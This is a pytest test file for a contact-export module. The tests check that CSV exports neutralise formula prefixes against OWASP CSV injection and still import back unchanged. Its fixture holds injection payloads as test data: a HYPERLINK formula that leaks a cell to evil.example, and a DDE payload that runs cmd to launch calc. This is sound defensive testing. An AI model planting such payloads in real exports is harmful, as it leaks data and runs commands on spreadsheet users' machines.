"""CSV exports neutralise formula prefixes (OWASP CSV injection), and the import undoes it: a
spreadsheet runs nothing a third party put in a contact, and the file still imports back."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import col, select

from engine.audience.contact_export import export_contacts
from engine.audience.contact_import import import_contacts
from engine.audience.lists import get_or_create_list
from engine.csv_cells import neutralise, restore
from engine.db import session_scope
from engine.models import Contact, Organization
from engine.runtime import Runtime

#: What third parties send: formulas, and values a spreadsheet would reach one through.
HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sum": "+1+1",
    "minus": "-2+3",
    "tabbed": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'quoted",
    "plain": "Lyon",
}
FILE = (
    "email,phone,name,=cmd," + ",".join(HOSTILE) + "\r\n"
    "ann@example.com,+15550111,@Ann,x,"
    + ",".join('"' + v.replace('"', '""') + '"' for v in HOSTILE.values())
    + "\r\n"
)
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def target(rt: Runtime) -> tuple[str, int]:
    """An organization, its list ``newsletter`` and one contact of hostile values."""
    with session_scope(rt.engine) as session:
        org = Organization(name="acme")
        session.add(org)
        session.flush()
        found = get_or_create_list(session, org.id, "newsletter")
        assert found.id is not None
        result = import_contacts(session, org.id, found.id, io.StringIO(FILE))
        assert (result.created, result.error_count) == (1, 0), result.errors
        return org.id, found.id


def export_text(rt: Runtime, target: tuple[str, int], **options: bool) -> str:
    with session_scope(rt.engine) as session:
        return "".join(export_contacts(session, *target, **options))


def export(rt: Runtime, target: tuple[str, int], **options: bool) -> list[list[str]]:
    return list(csv.reader(io.StringIO(export_text(rt, target, **options))))


def stored(rt: Runtime, list_id: int) -> Contact:
    with session_scope(rt.engine) as session:
        contact = session.exec(select(Contact).where(col(Contact.list_id) == list_id)).one()
        session.expunge(contact)
        return contact


def test_no_exported_cell_starts_like_a_formula(rt: Runtime, target: tuple[str, int]) -> None:
    header, row = export(rt, target)

    cells = dict(zip(header, row, strict=True))
    # Only a signed number (a phone) may start like a formula: it names no function or cell.
    assert [c for c in header + row if c.startswith(DANGEROUS_FIRST)] == ["+15550111"]
    assert cells["link"] == "'" + HOSTILE["link"]
    assert cells["phone"] == "+15550111" and cells["name"] == "'@Ann"
    assert cells["quoted"] == "''quoted" and cells["plain"] == "Lyon"
    assert "'=cmd" in header


def test_the_neutralised_export_imports_back_unchanged(
    rt: Runtime, target: tuple[str, int]
) -> None:
    before = stored(rt, target[1])
    assert before.fields == {"=cmd": "x", **HOSTILE} and before.phone == "+15550111"
    text = export_text(rt, target)

    with session_scope(rt.engine) as session:
        again = import_contacts(session, *target, io.StringIO(text))

    assert (again.unchanged, again.updated, again.error_count) == (1, 0, 0)
    after = stored(rt, target[1])
    assert (after.fields, after.name, after.phone) == (before.fields, "@Ann", "+15550111")


def test_a_raw_export_writes_cells_as_stored(rt: Runtime, target: tuple[str, int]) -> None:
    header, row = export(rt, target, raw=True)

    cells = dict(zip(header, row, strict=True))
    assert cells["link"] == HOSTILE["link"] and cells["phone"] == "+15550111"
    assert cells["quoted"] == "'quoted" and "=cmd" in header


@pytest.mark.parametrize("value", ["", "'", "''", "'x", "=", "x=", "-", "'-1", "\t", "a'b"])
def test_restore_gives_back_what_neutralise_was_given(value: str) -> None:
    assert restore(neutralise(value)) == value
